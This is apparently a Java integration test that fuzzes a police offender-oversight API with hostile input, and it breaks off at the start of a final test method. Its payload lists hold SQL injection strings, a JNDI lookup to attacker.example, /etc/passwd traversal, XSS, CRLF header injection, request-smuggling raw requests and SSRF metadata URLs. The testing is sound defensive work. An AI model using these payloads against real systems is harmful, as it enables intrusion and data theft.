package uk.police.oversight.system;

import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.smallrye.jwt.build.Jwt;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.net.Socket;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.security.KeyPairGenerator;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.function.Function;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import io.restassured.response.Response;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import uk.police.oversight.local.LocalKeys;
import uk.police.oversight.system.AuthorizationMatrixIT.Fixture;
import uk.police.oversight.system.AuthorizationMatrixIT.Role;

/**
 * Hostile input through the gateway, to every operation of the published OpenAPI document: malformed, oversized,
 * wrongly typed, injection-shaped and unicode-edge bodies, path and query parameters and headers, and forged or
 * broken tokens. Whatever is sent: no 5xx, every error a problem+json whose status is the answer's, no manager ever
 * sees the other area's records, and a write that is refused leaves every table as it was.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileInputIT {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final Pattern PATH_PARAMETER = Pattern.compile("\\{([^}]+)}");

    /** Strings that have broken web services: injection, traversal, encodings, control characters, sizes. */
    static final List<String> HOSTILE_STRINGS = List.of(
            "", " ", "'", "\"", "\\", "'; drop table offender; --", "' or '1'='1", "1 or 1=1", "%' and sleep(5) --",
            "${jndi:ldap://attacker.example/a}", "#{7*7}", "{{7*7}}", "<script>alert(1)</script>", "../../../../etc/passwd",
            "..%2f..%2fetc%2fpasswd", "/", "//", "%00", "\u0000", "a\u0000b", "\u0007\u001b[31m", "\r\nX-Injected: yes",
            "\ud800", "\udfff\ud800", "\uffff", "\ufeff", "😀🏴‍☠️", "\u202eevil\u202c", "Zoë Ñúñez", "ｆｕｌｌｗｉｄｔｈ",
            "e\u0301\u0301\u0301\u0301", "null", "true", "-1", "0", "NaN", "Infinity", "1e309", "9223372036854775808",
            "2022-02-30", "2022-13-01", "+999999999-12-31", "-999999999-01-01", "0000-00-00", "99999-01-01",
            "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "not-a-uuid",
            "%s%n%x%p", "A".repeat(300), "Ж".repeat(5_000), "x".repeat(70_000));

    /** JSON values of every type and edge, to put where a field's value belongs. */
    static final List<JsonNode> HOSTILE_VALUES = hostileValues();

    private Fixture world;
    private final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(10)).build();
    private final List<String> violations = new ArrayList<>();
    private final Map<String, Integer> statuses = new java.util.TreeMap<>();
    private int sent;
    private List<Operation> operations;
    private Connection offenderDb;
    private Connection visitsDb;
    private Connection notificationsDb;
    private Connection assuranceDb;
    private String lastFingerprint;

    /** One operation of the published document. */
    record Operation(String method, String template, List<Map<String, Object>> parameters, String bodyType) {
        String key() {
            return method + " " + template;
        }

        boolean writes() {
            return !method.equals("GET");
        }
    }

    /**
     * {@code verify} sends each operation one in {@link #SHARE} of each class of hostile input, a different share per
     * operation (and per parameter or field), so that every input still reaches several operations and every class
     * reaches every operation; {@code -Phostile-full} ({@code oversight.hostile.sweep=full}) sends every input to every
     * parameter of every operation, as CI does.
     */
    static final boolean FULL_SWEEP = "full".equals(System.getProperty("oversight.hostile.sweep", "sample"));
    static final int SHARE = 4;

    private <T> List<T> share(List<T> all, Operation operation, int salt) {
        if (FULL_SWEEP) {
            return all;
        }
        int offset = operations.indexOf(operation) + salt;
        List<T> chosen = new ArrayList<>();
        for (int i = 0; i < all.size(); i++) {
            if ((i + offset) % SHARE == 0) {
                chosen.add(all.get(i));
            }
        }
        return chosen;
    }

    /** A request to send: whatever the test wants, raw. */
    record Probe(String label, String method, String path, Map<String, String> headers, byte[] body) {
    }

    /** What came back. */
    record Answer(int status, String contentType, String body) {
    }

    @BeforeAll
    void buildTheWorld() throws SQLException {
        world = Fixture.build();
        Map<String, Map<String, Map<String, Object>>> paths = given().get(SystemStack.get().url("api-gateway") + "/q/openapi?format=json")
                .then().statusCode(200).extract().jsonPath().getMap("paths");
        operations = new ArrayList<>();
        paths.forEach((path, methods) -> methods.forEach((method, operation) -> {
            if (List.of("get", "post", "put", "patch", "delete").contains(method)) {
                @SuppressWarnings("unchecked")
                List<Map<String, Object>> parameters = (List<Map<String, Object>>) operation.getOrDefault("parameters", List.of());
                @SuppressWarnings("unchecked")
                Map<String, Object> body = (Map<String, Object>) operation.get("requestBody");
                String bodyType = body == null ? null : ((Map<?, ?>) body.get("content")).keySet().iterator().next().toString();
                operations.add(new Operation(method.toUpperCase(Locale.ROOT), path.substring("/api/v1".length()), parameters, bodyType));
            }
        }));
        offenderDb = DriverManager.getConnection(SystemStack.get().jdbcUrl("offender"), "postgres", "");
        visitsDb = DriverManager.getConnection(SystemStack.get().jdbcUrl("visits"), "postgres", "");
        notificationsDb = DriverManager.getConnection(SystemStack.get().jdbcUrl("notifications"), "postgres", "");
        assuranceDb = DriverManager.getConnection(SystemStack.get().jdbcUrl("assurance"), "postgres", "");
        watch(offenderDb, WATCHED.get("offender"));
        watch(visitsDb, WATCHED.get("visits"));
        watch(notificationsDb, WATCHED.get("notifications"));
        watch(assuranceDb, WATCHED.get("assurance"));
        lastFingerprint = fingerprint();
    }

    /** The pinned tests below write through the API directly: the sweep compares each refusal with what was there just before it. */
    @BeforeEach
    void takeTheDataAsItIsNow() throws SQLException {
        lastFingerprint = fingerprint();
    }

    @AfterAll
    void restoreThePolicyAndReport() throws SQLException {
        String etag = SystemStack.admin().get(SystemStack.api() + "/visit-policy").header("ETag");
        SystemStack.admin().header("If-Match", etag).body(Fixture.NATIONAL_POLICY).put(SystemStack.api() + "/visit-policy")
                .then().statusCode(200);
        System.out.println("HostileInputIT: " + sent + " requests; answers by status: " + statuses);
        if (offenderDb != null) {
            unwatch(offenderDb, WATCHED.get("offender"));
            unwatch(visitsDb, WATCHED.get("visits"));
            unwatch(notificationsDb, WATCHED.get("notifications"));
            unwatch(assuranceDb, WATCHED.get("assurance"));
        }
        for (Connection connection : new Connection[] {offenderDb, visitsDb, notificationsDb, assuranceDb}) {
            if (connection != null) {
                connection.close();
            }
        }
    }

    @Test
    void everyBodyOperationHasAValidBodyToMutate() {
        Set<String> withBodies = new TreeSet<>(operations.stream().filter(o -> o.bodyType() != null).map(Operation::key).toList());
        assertEquals(withBodies, new TreeSet<>(validBodies().keySet()), "a valid body for each operation that takes one");
    }

    @Test
    void brokenForgedAndMisusedTokensAreRefusedEverywhere() throws Exception {
        Map<String, String> tokens = forgedTokens();
        for (Operation operation : operations) {
            String path = concrete(operation, true);
            for (Map.Entry<String, String> token : tokens.entrySet()) {
                Map<String, String> headers = new LinkedHashMap<>();
                if (!token.getValue().isEmpty()) {
                    headers.put("Authorization", token.getValue());
                }
                byte[] body = operation.bodyType() == null ? null : JSON.writeValueAsBytes(validBody(operation));
                if (body != null) {
                    headers.put("Content-Type", operation.bodyType());
                }
                Answer answer = send(new Probe("token " + token.getKey(), operation.method(), path, headers, body), operation, Role.ADMIN);
                if (answer.status() != 401) {
                    violation("token " + token.getKey() + " " + operation.key(), "expected 401, got " + answer.status() + " " + clip(answer.body()));
                }
            }
        }
        assertNoViolations();
    }

    @Test
    void hostilePathParametersNeverBreakAServiceNorCrossAnArea() throws Exception {
        for (Operation operation : operations) {
            List<String> names = parameterNames(operation, "path");
            if (names.isEmpty()) {
                continue;
            }
            Role role = roleFor(operation);
            for (String name : names) {
                List<String> values = new ArrayList<>(share(HOSTILE_STRINGS, operation, names.indexOf(name)));
                if (role == Role.MANAGER || role == Role.SUPERVISOR) {
                    values.addAll(otherAreaValues());
                }
                for (String value : values) {
                    String path = concrete(operation, true).replace("/" + fixtureValue(operation, name, true), "/" + encodePath(value));
                    byte[] body = operation.bodyType() == null ? null : JSON.writeValueAsBytes(validBody(operation));
                    send(new Probe("path " + name + "=" + clip(value), operation.method(), path, jsonHeaders(operation, role), body),
                            operation, role);
                }
            }
        }
        assertNoViolations();
    }

    @Test
    void hostileQueryParametersNeverBreakAServiceNorCrossAnArea() throws Exception {
        for (Operation operation : operations) {
            List<String> names = new ArrayList<>(parameterNames(operation, "query"));
            if (operation.method().equals("GET")) {
                names.add("unknownParameter");
            }
            Role role = roleFor(operation);
            for (String name : names) {
                List<String> hostile = new ArrayList<>(HOSTILE_STRINGS);
                hostile.addAll(List.of("-2147483649", "2147483648", "1.5", "1,2", "ASC", "desc", "lastName,asc",
                        "riskLevel,sideways", "pncId;drop", "page", "2022-06-30T00:00:00Z"));
                List<String> values = new ArrayList<>(share(hostile, operation, names.indexOf(name)));
                values.add(world.area(false));
                values.addAll(otherAreaValues());
                for (String value : values) {
                    String path = concrete(operation, true);
                    String query = URLEncoder.encode(name, StandardCharsets.UTF_8) + "=" + URLEncoder.encode(value, StandardCharsets.UTF_8);
                    path = path + (path.contains("?") ? "&" : "?") + query;
                    byte[] body = operation.bodyType() == null ? null : JSON.writeValueAsBytes(validBody(operation));
                    send(new Probe("query " + name + "=" + clip(value), operation.method(), path, jsonHeaders(operation, role), body),
                            operation, role);
                }
                // The same parameter twice, with conflicting values.
                String path = concrete(operation, true);
                path = path + (path.contains("?") ? "&" : "?") + name + "=1&" + name + "=x";
                send(new Probe("query " + name + " twice", operation.method(), path, jsonHeaders(operation, role), null), operation, role);
            }
        }
        assertNoViolations();
    }

    @Test
    void hostileBodiesAreRefusedWholeAndWriteNothing() throws Exception {
        for (Operation operation : operations) {
            if (operation.bodyType() == null) {
                continue;
            }
            Role role = roleFor(operation);
            String path = concrete(operation, true);
            Map<String, String> headers = jsonHeaders(operation, role);
            for (Map.Entry<String, byte[]> malformed : share(List.copyOf(malformedBodies().entrySet()), operation, 0)) {
                send(new Probe("body " + malformed.getKey(), operation.method(), path, headers, malformed.getValue()), operation, role);
            }
            ObjectNode valid = validBody(operation);
            List<String> fields = fieldPaths(valid, "");
            for (String field : fields) {
                for (JsonNode value : share(HOSTILE_VALUES, operation, fields.indexOf(field))) {
                    ObjectNode mutated = validBody(operation);
                    set(mutated, field, value);
                    send(new Probe("body " + field + "=" + clip(value.toString()), operation.method(), path, headers,
                            JSON.writeValueAsBytes(mutated)), operation, role);
                }
                ObjectNode without = validBody(operation);
                remove(without, field);
                send(new Probe("body without " + field, operation.method(), path, headers, JSON.writeValueAsBytes(without)), operation, role);
                // The other area's identifiers where this operation expects its own.
                if (!identifies(field) || role == Role.ADMIN || role == Role.INTEGRATION) {
                    continue;
                }
                for (String other : otherAreaValues()) {
                    ObjectNode crossing = validBody(operation);
                    set(crossing, field, NODES.textNode(other));
                    send(new Probe("body " + field + " from the other area", operation.method(), path, headers,
                            JSON.writeValueAsBytes(crossing)), operation, role);
                }
            }
            for (String contentType : share(List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
                    "multipart/form-data; boundary=x", "application/json; charset=utf-16", "application/json; charset=nonsense", "*/*"),
                    operation, 1)) {
                Map<String, String> wrong = new LinkedHashMap<>(headers);
                wrong.put("Content-Type", contentType);
                send(new Probe("content type " + contentType, operation.method(), path, wrong, JSON.writeValueAsBytes(valid)),
                        operation, role);
            }
            Map<String, String> none = new LinkedHashMap<>(headers);
            none.remove("Content-Type");
            send(new Probe("no content type", operation.method(), path, none, JSON.writeValueAsBytes(valid)), operation, role);
        }
        assertNoViolations();
    }

    @Test
    void hostileHeadersAreAnsweredCleanly() throws Exception {
        for (Operation operation : operations) {
            if (operation.key().equals("POST /projection/rebuild") || operation.key().equals("POST /offenders/events/replay")) {
                continue; // Force-wide jobs: their tokens are covered above, and running them mid-suite proves nothing more.
            }
            Role role = roleFor(operation);
            byte[] body = operation.bodyType() == null ? null : JSON.writeValueAsBytes(validBody(operation));
            for (String[] header : share(hostileHeaders(), operation, 0)) {
                // A deletion that succeeds takes its record away: each one gets a record of its own.
                String path = switch (operation.key()) {
                    case "DELETE /offenders/{id}" -> world.erasure().path();
                    case "DELETE /webhooks/{id}" -> "/webhooks/" + world.newWebhook();
                    default -> concrete(operation, true);
                };
                lastFingerprint = fingerprint(); // (making that record is not the request under test)
                Map<String, String> headers = jsonHeaders(operation, role);
                headers.put(header[0], header[1]);
                send(new Probe("header " + header[0] + ": " + clip(header[1]), operation.method(), path, headers, body), operation, role);
            }
        }
        assertNoViolations();
    }

    @Test
    void rawProtocolAbuseIsAnsweredCleanly() throws Exception {
        String token = world.token(Role.ADMIN);
        String offender = world.offender(true);
        List<String> requests = List.of(
                "GET /api/v1/offenders/%ZZ HTTP/1.1\r\n",
                "GET /api/v1/offenders/%00 HTTP/1.1\r\n",
                "GET /api/v1/offenders/..%2F..%2Fareas HTTP/1.1\r\n",
                "GET /api/v1/../api/v1/areas HTTP/1.1\r\n",
                "GET /api/v1/offenders?size=%ZZ HTTP/1.1\r\n",
                "GET /api/v1/offenders/" + offender + "%20 HTTP/1.1\r\n",
                "GET /api/v1/areas HTTP/1.1\r\nX-Request-Id: a\u0001b\r\n",
                "GET /api/v1/areas HTTP/1.1\r\nX-Request-Id: " + "r".repeat(5_000) + "\r\n",
                "GET /api/v1/areas HTTP/1.1\r\nX-Huge: " + "h".repeat(40_000) + "\r\n",
                "POST /api/v1/areas HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{\"code\":\"RAW\"}",
                "POST /api/v1/areas HTTP/1.1\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n",
                "POST /api/v1/areas HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: -1\r\n\r\n{}",
                "POST /api/v1/areas HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: 99999999999999999999\r\n\r\n{}",
                "GET /api/v1/areas HTTP/1.1\r\nAuthorization: Bearer " + token + "\r\nAuthorization: Bearer x\r\n",
                "PROPFIND /api/v1/areas HTTP/1.1\r\n",
                "TRACE /api/v1/areas HTTP/1.1\r\n",
                "OPTIONS /api/v1/offenders HTTP/1.1\r\n",
                "GET /api/v1/areas HTTP/1.0\r\n",
                "GET /api/v1/offenders?q=" + "%F0%9F%98%80".repeat(500) + " HTTP/1.1\r\n",
                "GET /api/v1/offenders?q=%C3%28 HTTP/1.1\r\n",
                "GET /api/v1/offenders/%C3%28 HTTP/1.1\r\n");
        int port = SystemStack.get().port("api-gateway");
        for (String request : requests) {
            String head = request.contains("\r\n\r\n") ? request.substring(0, request.indexOf("\r\n\r\n") + 2) : request;
            String body = request.contains("\r\n\r\n") ? request.substring(request.indexOf("\r\n\r\n") + 4) : "";
            String authorization = head.contains("Authorization:") ? "" : "Authorization: Bearer " + token + "\r\n";
            String whole = head + "Host: localhost:" + port + "\r\n" + authorization + "Connection: close\r\n\r\n" + body;
            Answer answer = raw(port, whole.getBytes(StandardCharsets.UTF_8));
            sent++;
            statuses.merge(Integer.toString(answer.status()), 1, Integer::sum);
            String label = "raw " + clip(request.replace("\r\n", " | "));
            boolean brokenFraming = request.contains("Transfer-Encoding: chunked");
            if (answer.status() == 0 && brokenFraming) {
                continue; // The body's framing is broken: closing the connection is a valid answer (RFC 9112, 6.3).
            }
            if (answer.status() >= 500 || answer.status() < 100) {
                violation(label, "answered " + answer.status() + " " + clip(answer.body()));
            } else if (answer.status() >= 400 && !answer.body().isEmpty() && !isProblem(answer)) {
                violation(label, answer.status() + " is not problem+json: " + answer.contentType() + " " + clip(answer.body()));
            }
        }
        assertNoViolations();
    }

    // ---- the classes of defect the hardening review found (issue 11), each pinned to its answer -------------------

    @Test
    void metricsAndHealthAreNotOnThePublicPortAndNameNoRecord() throws Exception {
        for (String path : List.of("/q/metrics", "/q/health", "/q/health/ready", "/q/metrics/json")) {
            Answer answer = raw(SystemStack.get().port("api-gateway"), ("GET " + path + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
                    .getBytes(StandardCharsets.US_ASCII));
            assertEquals(404, answer.status(), path + " on the gateway's public port: " + answer.body());
        }
        String offender = world.offender(true);
        SystemStack.admin().get(SystemStack.api() + "/offenders/" + offender).then().statusCode(200);
        SystemStack.admin().urlEncodingEnabled(false).get(SystemStack.api() + "/offenders/by-pnc/" + world.pnc(true).replace("/", "%2F"))
                .then().statusCode(200);
        for (int i = 0; i < 20; i++) {
            SystemStack.admin().get(SystemStack.api() + "/junk-" + i + "-" + java.util.UUID.randomUUID()).then().statusCode(404);
        }
        // A page of the web app, by an offender's id, without a session: sent to sign in (and the id in no metric).
        given().redirects().follow(false).get(SystemStack.get().url("api-gateway") + "/offenders/" + offender).then().statusCode(302);
        given().redirects().follow(false).get(SystemStack.get().url("api-gateway") + "/junk-" + pncDigitsOf(world.pnc(true))).then().statusCode(302);
        for (String service : SystemStack.get().serviceNames()) {
            String metrics = given().get(SystemStack.get().managementUrl(service) + "/metrics").then().statusCode(200).extract().asString();
            String pncDigits = world.pnc(true).replace("/", "");
            assertTrue(metrics.contains("http_server_requests_seconds_count"), service + " has request metrics");
            for (String secret : List.of(offender, world.manager(true), pncDigits, world.pnc(true), "junk-")) {
                assertTrue(!metrics.contains(secret), service + "'s metrics name " + secret);
            }
        }
    }

    private static String pncDigitsOf(String pnc) {
        return pnc.replace("/", "");
    }

    @Test
    void anOffenderGoesOnlyToAnActiveOffenderManagerOfTheirArea() {
        String area = world.area(true);
        Map<String, Object> otherAreasManager = new LinkedHashMap<>(world.newOffender(true));
        otherAreasManager.put("managerStaffNumber", world.staffNumber(false));
        assertRefused(SystemStack.admin().body(otherAreasManager).post(SystemStack.api() + "/offenders"), 422, "managerStaffNumber");
        Map<String, Object> aSupervisor = new LinkedHashMap<>(world.newOffender(true));
        aSupervisor.put("managerStaffNumber", "SUP-" + area);
        assertRefused(SystemStack.admin().body(aSupervisor).post(SystemStack.api() + "/offenders"), 422, "managerStaffNumber");
        Map<String, Object> staff = world.newStaff();
        String leaverId = SystemStack.admin().body(staff).post(SystemStack.api() + "/staff").then().statusCode(201).extract().path("id");
        SystemStack.admin().contentType("application/merge-patch+json").body(Map.of("active", false))
                .patch(SystemStack.api() + "/staff/" + leaverId).then().statusCode(200);
        Map<String, Object> aLeaver = new LinkedHashMap<>(world.newOffender(true));
        aLeaver.remove("managerStaffNumber");
        aLeaver.put("managerId", leaverId);
        assertRefused(SystemStack.admin().body(aLeaver).post(SystemStack.api() + "/offenders"), 422, "managerId");
        String offender = "/offenders/" + world.offender(true);
        assertRefused(SystemStack.admin().contentType("application/merge-patch+json").body(Map.of("managerId", world.manager(false)))
                .patch(SystemStack.api() + offender), 422, "managerId");
        assertRefused(SystemStack.admin().contentType("application/merge-patch+json").body(Map.of("areaCode", world.area(false)))
                .patch(SystemStack.api() + offender), 422, "managerId");
        SystemStack.integration().body(Map.of("items", List.of(otherAreasManager))).post(SystemStack.api() + "/offenders/batch")
                .then().statusCode(200).body("results[0].result", org.hamcrest.Matchers.equalTo("rejected"))
                .body("results[0].problems.field", org.hamcrest.Matchers.hasItem("managerStaffNumber"));
        // A move with a manager of the new area is the way to move an offender.
        SystemStack.admin().contentType("application/merge-patch+json").body(Map.of("areaCode", world.area(false), "managerId", world.manager(false)))
                .patch(SystemStack.api() + offender).then().statusCode(200);
        SystemStack.admin().contentType("application/merge-patch+json").body(Map.of("areaCode", area, "managerId", world.manager(true)))
                .patch(SystemStack.api() + offender).then().statusCode(200);
    }

    @Test
    void recordsOutsideTheCallersAreasAnswerExactlyAsUnknownOnes() {
        io.restassured.specification.RequestSpecification manager = SystemStack.as("hostile.dc." + world.area(true),
                List.of("offender-manager"), world.area(true));
        String subject = "hostile.dc." + world.area(true);
        String wrongPnc = String.format("1998/%07d%c", 7_654_321, World.checkLetter(1998, 7_654_321));
        Map<String, Object> visit = new LinkedHashMap<>(Map.of("visitDate", "2022-01-10", "type", "HOME_VISIT", "outcome", "COMPLETED",
                "announced", false, "pncId", wrongPnc));
        visit.put("offenderId", world.offender(false));
        String otherAreas = sameness(SystemStack.as(subject, List.of("offender-manager"), world.area(true)).body(visit)
                .post(SystemStack.api() + "/visits"), world.offender(false));
        visit.put("offenderId", java.util.UUID.randomUUID().toString());
        String unknown = sameness(SystemStack.as(subject, List.of("offender-manager"), world.area(true)).body(visit)
                .post(SystemStack.api() + "/visits"), (String) visit.get("offenderId"));
        assertEquals(unknown, otherAreas, "a visit naming another area's offender is answered as one naming nobody");

        String unknownPnc = String.format("1997/%07d%c", 7_654_322, World.checkLetter(1997, 7_654_322));
        Response unknownLookUp = manager.urlEncodingEnabled(false).get(SystemStack.api() + "/offenders/by-pnc/" + unknownPnc.replace("/", "%2F"));
        assertEquals(404, unknownLookUp.statusCode(), unknownLookUp.asString());
        assertEquals(sameness(unknownLookUp, unknownPnc),
                sameness(SystemStack.as(subject, List.of("offender-manager"), world.area(true)).urlEncodingEnabled(false)
                        .get(SystemStack.api() + "/offenders/by-pnc/" + world.pnc(false).replace("/", "%2F")), world.pnc(false)),
                "another area's PNC id is looked up as an unknown one");

        // Registering a PNC id already on the register: 409 in the same words whoever holds it (docs/api.md says why).
        Map<String, Object> own = new LinkedHashMap<>(world.newOffender(true));
        own.put("pncId", world.pnc(true));
        Map<String, Object> others = new LinkedHashMap<>(world.newOffender(true));
        others.put("pncId", world.pnc(false));
        Response ownConflict = SystemStack.as(subject, List.of("offender-manager"), world.area(true)).body(own).post(SystemStack.api() + "/offenders");
        Response otherConflict = SystemStack.as(subject, List.of("offender-manager"), world.area(true)).body(others).post(SystemStack.api() + "/offenders");
        assertEquals(409, ownConflict.statusCode(), ownConflict.asString());
        assertEquals(sameness(ownConflict, world.pnc(true)), sameness(otherConflict, world.pnc(false)));
        for (String leak : List.of(world.offender(false), world.area(false), world.manager(false))) {
            assertTrue(!otherConflict.asString().contains(leak), "the 409 names nothing of the record: " + otherConflict.asString());
        }
        // Each attempt on the other area's records is a refused entry of the audit log.
        assertTrue(SystemStack.eventually(Duration.ofSeconds(30), () -> SystemStack.admin().queryParam("actor", subject)
                .queryParam("outcome", "REFUSED").queryParam("offenderId", world.offender(false))
                .get(SystemStack.api() + "/audit-events").<Integer>path("totalItems") >= 3), "refused attempts are audited");
        for (String service : List.of("offender-service", "visit-scheduler")) {
            assertTrue(SystemStack.admin().queryParam("actor", subject).queryParam("outcome", "REFUSED")
                    .get(SystemStack.api() + "/audit-events").jsonPath().getList("items.service").contains(service), "refused in " + service);
        }
    }

    @Test
    void webhooksNeverReachMetadataNorTheSystemsOwnAddresses() {
        LocalStackPorts ports = new LocalStackPorts();
        List<String> targets = new ArrayList<>(List.of("https://169.254.169.254/latest/meta-data/", "http://169.254.169.254/",
                "https://[fd00:ec2::254]/", "https://metadata.google.internal/", "https://0xa9fea9fe/", "https://2852039166/"));
        for (int port : ports.all()) {
            targets.add("https://localhost:" + port + "/hook");
            targets.add("https://127.0.0.1:" + port + "/hook");
            targets.add("https://[::1]:" + port + "/hook");
            targets.add("https://2130706433:" + port + "/hook");
            targets.add("https://0x7f.0.0.1:" + port + "/hook");
            targets.add("https://[::ffff:127.0.0.1]:" + port + "/hook");
        }
        for (String url : targets) {
            Response answer = SystemStack.admin().body(Map.of("url", url, "eventTypes", List.of("OVERDUE"), "secret", "a-secret-of-sixteen-or-more"))
                    .post(SystemStack.api() + "/webhooks");
            assertEquals(422, answer.statusCode(), url + " -> " + answer.asString());
            assertTrue(answer.path("errors.field").toString().contains("url"), url + " -> " + answer.asString());
        }
    }

    @Test
    void theAuditLogKeepsJustificationsAsSentRefusalsAndItsOwnReads() throws Exception {
        String subject = "hostile.justified";
        String token = SystemStack.get().keys().token(subject, List.of("offender-manager"), List.of(world.area(true)), Duration.ofMinutes(30));
        String justification = "Überprüfung vor dem Hausbesuch — 🚓 Ø";
        String request = "GET /api/v1/offenders/" + world.offender(true) + " HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + token
                + "\r\nX-Justification: " + justification + "\r\nConnection: close\r\n\r\n";
        assertEquals(200, raw(SystemStack.get().port("api-gateway"), request.getBytes(StandardCharsets.UTF_8)).status());
        assertTrue(SystemStack.eventually(Duration.ofSeconds(30), () -> SystemStack.admin().queryParam("actor", subject)
                .get(SystemStack.api() + "/audit-events").jsonPath().getList("items.justification").contains(justification)),
                "the justification is kept as it was sent");
        SystemStack.as(subject, List.of("offender-manager"), world.area(true)).header("X-Justification", "x".repeat(501))
                .get(SystemStack.api() + "/offenders/" + world.offender(true)).then().statusCode(400);

        String scrutineer = "hostile.scrutiny";
        SystemStack.as(scrutineer, List.of("scrutiny")).get(SystemStack.api() + "/offenders").then().statusCode(403);
        assertTrue(SystemStack.eventually(Duration.ofSeconds(30), () -> SystemStack.admin().queryParam("actor", scrutineer)
                .queryParam("outcome", "REFUSED").get(SystemStack.api() + "/audit-events").<Integer>path("totalItems") >= 1),
                "a 403 is a refused entry");

        String auditor = "hostile.auditor";
        SystemStack.as(auditor, List.of("admin")).queryParam("offenderId", world.offender(true)).get(SystemStack.api() + "/audit-events")
                .then().statusCode(200);
        assertTrue(SystemStack.eventually(Duration.ofSeconds(30), () -> SystemStack.admin().queryParam("actor", auditor)
                .queryParam("action", "CONSULT").get(SystemStack.api() + "/audit-events").<Integer>path("totalItems") >= 1),
                "reading the audit log is itself an entry");
    }

    @Test
    void theBrokerLetsInOnlyItsServicesEachToItsOwnAddresses() {
        int port = SystemStack.get().amqpPort();
        uk.police.oversight.local.BrokerUsers users = uk.police.oversight.local.BrokerUsers.in(SystemStack.get().home().resolve("keys"));
        io.vertx.core.Vertx vertx = io.vertx.core.Vertx.vertx();
        try {
            for (String[] login : List.of(new String[] {null, null}, new String[] {"offender-service", "not-the-password"},
                    new String[] {"guest", "guest"}, new String[] {"admin", "admin"})) {
                io.vertx.amqp.AmqpClientOptions options = new io.vertx.amqp.AmqpClientOptions().setHost("localhost").setPort(port);
                if (login[0] != null) {
                    options.setUsername(login[0]).setPassword(login[1]);
                }
                io.vertx.amqp.AmqpClient client = io.vertx.amqp.AmqpClient.create(vertx, options);
                var connected = client.connect().toCompletionStage().toCompletableFuture();
                assertTrue(completesExceptionally(connected), "the broker refused the login " + login[0]);
                client.close();
            }
            // A service logged in as itself may not write another service's audit entries, nor the old shared address.
            io.vertx.amqp.AmqpClient visits = io.vertx.amqp.AmqpClient.create(vertx, new io.vertx.amqp.AmqpClientOptions().setHost("localhost")
                    .setPort(port).setUsername("visit-scheduler").setPassword(users.password("visit-scheduler")));
            io.vertx.amqp.AmqpConnection connection = visits.connect().toCompletionStage().toCompletableFuture().get(30, java.util.concurrent.TimeUnit.SECONDS);
            for (String address : List.of("oversight.audit.notification-service", "oversight.audit")) {
                var sent = connection.createSender(address).compose(sender -> sender.sendWithAck(io.vertx.amqp.AmqpMessage.create()
                        .address(address).withBody("{\"forged\":true}").build())).toCompletionStage().toCompletableFuture();
                assertTrue(completesExceptionally(sent), "visit-scheduler may not send to " + address);
            }
            visits.close();
        } catch (Exception e) {
            throw new IllegalStateException(e);
        } finally {
            vertx.close();
        }
    }

    @Test
    void numbersAreNeverReadAsEnumValuesNorTextAsBooleansNorTrailingText() throws Exception {
        Map<String, Object> offender = world.newOffender(true);
        List<Map.Entry<String, Object>> coercions = List.of(Map.entry("riskLevel", 3), Map.entry("riskLevel", "3"), Map.entry("riskLevel", 0),
                Map.entry("mappaCategory", 1.9), Map.entry("mappaCategory", "1"), Map.entry("dateOfBirth", 19800101));
        for (Map.Entry<String, Object> coercion : coercions) {
            Map<String, Object> body = new LinkedHashMap<>(offender);
            body.put(coercion.getKey(), coercion.getValue());
            assertRefused(SystemStack.admin().body(body).post(SystemStack.api() + "/offenders"), 400, coercion.getKey());
        }
        Map<String, Object> visit = new LinkedHashMap<>(Map.of("offenderId", world.offender(true), "visitDate", "2022-01-10",
                "type", "HOME_VISIT", "outcome", "COMPLETED", "announced", false));
        for (Map.Entry<String, Object> coercion : List.<Map.Entry<String, Object>>of(Map.entry("type", 0), Map.entry("outcome", 1),
                Map.entry("announced", "false"), Map.entry("announced", 0))) {
            Map<String, Object> body = new LinkedHashMap<>(visit);
            body.put(coercion.getKey(), coercion.getValue());
            assertRefused(SystemStack.integration().body(body).post(SystemStack.api() + "/visits"), 400, coercion.getKey());
        }
        assertRefused(SystemStack.integration().body(Map.of("status", 1, "effectiveOn", "2022-01-01", "reason", "x"))
                .post(SystemStack.api() + "/offenders/" + world.offender(true) + "/status-changes"), 400, "status");
        String trailing = JSON.writeValueAsString(Map.of("code", world.unique("TR"), "name", "Trailing")) + " {\"code\": \"X\"}";
        assertEquals(400, SystemStack.admin().body(trailing).post(SystemStack.api() + "/areas").statusCode());
    }

    @Test
    void malformedEncodingsAndHeaderBytesAreAnsweredWithProblems() throws Exception {
